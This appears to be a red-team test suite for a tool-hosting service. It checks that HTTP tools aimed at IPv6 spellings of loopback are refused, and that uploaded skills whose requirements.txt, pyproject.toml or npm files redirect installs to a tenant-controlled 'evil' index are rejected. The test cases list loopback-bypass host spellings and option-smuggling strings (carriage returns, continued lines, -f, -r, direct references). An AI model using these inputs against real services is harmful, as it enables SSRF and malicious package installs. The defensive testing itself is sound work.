// Red team, egress: a tenant trying to make the deployment fetch from where it may not.
// - HTTP tools at an IPv6 spelling of loopback (IPv4-compatible `::127.0.0.1`, which a URL
//   writes `::7f00:1`, NAT64, IPv4-translated, 6to4): each refused with egress_denied before any
//   connection, not merely unreachable because this host does not route it.
// - Skills whose dependency files point pip or npm at an index of the tenant's choosing, through
//   the spellings pip and npm accept: refused with invalid_dependencies before anything is
//   installed, and the tenant's index never asked.
import { randomUUID } from 'node:crypto';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startPackageIndex, type PackageIndex } from '@toolmesh/testing';
import { startSkillsMesh, type SkillsMesh } from '../support/skills-mesh.ts';
import { startToolsMesh, type ToolsMesh } from '../support/tools-mesh.ts';
import { startUpstream, type Upstream } from '../support/upstream.ts';

describe('HTTP tools at an IPv6 spelling of loopback', () => {
  let mesh: ToolsMesh;
  let up: Upstream;
  let p: { id: string; key: string };
  beforeAll(async () => {
    up = await startUpstream();
    mesh = await startToolsMesh(); // no private host allowed, as deployed
    p = await mesh.api.createProject();
  }, 60_000);
  afterAll(async () => {
    await mesh?.close();
    await up?.close();
  });

  it.each([
    '[::127.0.0.1]',
    '[::7f00:1]',
    '[0:0:0:0:0:0:127.0.0.1]',
    '[64:ff9b::127.0.0.1]',
    '[64:ff9b:1::7f00:1]',
    '[::ffff:0:127.0.0.1]',
    '[2002:7f00:1::1]',
  ])('refuses http://%s before connecting', async (host) => {
    const url = `http://${host}:${up.port}/echo/v6`;
    const res = await mesh.request('POST', `/v1/projects/${p.id}/tools`, {
      key: p.key,
      body: {
        name: `eg.t${randomUUID().slice(0, 8)}`,
        description: 'x',
        parameters: { type: 'object', properties: {} },
        kind: 'http',
        http: { method: 'GET', url },
      },
    });
    expect(res.status, res.raw).toBe(201);
    const before = up.seen.length;
    const r = await mesh.client.callTool(
      { project: p.id, channel: 'test', tool: res.body.name as string },
      { waitMs: 30_000 },
    );
    expect(r.content.error?.code, JSON.stringify(r.content)).toBe('egress_denied');
    expect(up.seen.length).toBe(before);
  });
});

describe('skill dependencies from an index of the tenant', () => {
  let index: PackageIndex;
  let evil: PackageIndex;
  let mesh: SkillsMesh;
  let dir: string;

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'toolmesh-redteam-egress-'));
    index = await startPackageIndex();
    evil = await startPackageIndex();
    for (const i of [index, evil]) {
      await i.addWheel('tinygif', '1.2.0', { 'tinygif/__init__.py': '__version__ = "1.2.0"\n' });
      await i.addNpmPackage('padder', '1.0.0', { 'index.js': 'module.exports = 1;\n' });
    }
    mesh = await startSkillsMesh({
      CG__SKILLS__PACKAGE_INDEXES: JSON.stringify([index.pythonUrl]),
      CG__SKILLS__NPM_REGISTRY: index.npmUrl,
      CG__SKILLS__PACKAGE_DOWNLOAD_HOSTS: '[]',
    });
    await mesh.startSkills();
  }, 60_000);
  afterAll(async () => {
    await mesh?.close();
    await index?.close();
    await evil?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  const lock = (resolved: string) =>
    JSON.stringify({
      lockfileVersion: 3,
      packages: {
        '': { dependencies: { padder: '^1.0.0' } },
        'node_modules/padder': { version: '1.0.0', resolved },
      },
    });

  const cases: [string, () => Record<string, string>, string][] = [
    [
      'a carriage return',
      () => ({ 'requirements.txt': `tinygif\r-i${evil.pythonUrl}\n` }),
      'requirements.txt',
    ],
    [
      'a prefix of --index-url',
      () => ({ 'requirements.txt': `--ind=${evil.pythonUrl}\ntinygif\n` }),
      'requirements.txt',
    ],
    [
      'a continued line',
      () => ({ 'requirements.txt': `-\\\n-extra-index-url ${evil.pythonUrl}\ntinygif\n` }),
      'requirements.txt',
    ],
    [
      'an option after a requirement',
      () => ({ 'requirements.txt': `tinygif -f${evil.pythonUrl}tinygif/\n` }),
      'requirements.txt',
    ],
    [
      'a direct reference',
      () => ({ 'requirements.txt': `tinygif @ ${evil.pythonUrl}tinygif/\n` }),
      'requirements.txt',
    ],
    [
      'another requirements file by URL',
      () => ({ 'requirements.txt': `-r ${evil.pythonUrl}r.txt\n` }),
      'requirements.txt',
    ],
    [
      'a pyproject dependency carrying a line of its own',
      () => ({
        'pyproject.toml': `[project]\nname = "x"\ndependencies = ["tinygif\\n--index-url=${evil.pythonUrl}"]\n`,
      }),
      'pyproject.toml',
    ],
    [
      'an npm tarball URL',
      () => ({
        'package.json': JSON.stringify({
          dependencies: { padder: `${evil.npmUrl}padder/-/padder-1.0.0.tgz` },
        }),
      }),
      'package.json',
    ],
    [
      'a lockfile resolving to another registry',
      () => ({
        'package.json': JSON.stringify({ dependencies: { padder: '^1.0.0' } }),
        'package-lock.json': lock(`${evil.npmUrl}padder/-/padder-1.0.0.tgz`),
      }),
      'package-lock.json',
    ],
  ];

  it.each(cases)(
    'refuses %s before installing anything',
    async (_what, files, file) => {
      const name = `evil-${randomUUID().slice(0, 8)}`;
      const root = join(dir, name);
      await mkdir(root, { recursive: true });
      await writeFile(join(root, 'SKILL.md'), `---\nname: ${name}\ndescription: x\n---\n\n# x\n`);
      for (const [p, text] of Object.entries(files())) await writeFile(join(root, p), text);
      await mesh.uploadSkill(root);
      const r = await mesh.client.callTool({
        project: mesh.project.id,
        channel: 'main',
        tool: 'skills.run_cmd',
        arguments: { skill: name, command: 'true' },
        timeoutMs: 180_000,
      });
      expect(r.status, JSON.stringify(r.content)).toBe('failed');
      expect(r.content.error).toMatchObject({ code: 'invalid_dependencies', details: { file } });
      expect(evil.requests()).toEqual([]);
      expect(index.requests()).toEqual([]);
    },
    200_000,
  );
});
